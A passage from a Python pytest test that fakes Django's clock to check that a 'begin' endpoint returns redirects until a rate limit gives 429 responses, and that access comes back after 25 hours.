        moment = NOW + datetime.timedelta(hours=hour)
        monkeypatch.setattr("django.utils.timezone.now", lambda moment=moment: moment)
        answers += [Visitor().begin().status_code for _ in range(3)]
    assert answers == [302] * 6 + [429] * 3
    monkeypatch.setattr("django.utils.timezone.now", lambda: NOW + datetime.timedelta(hours=25))
    assert Visitor().begin().status_code == 302
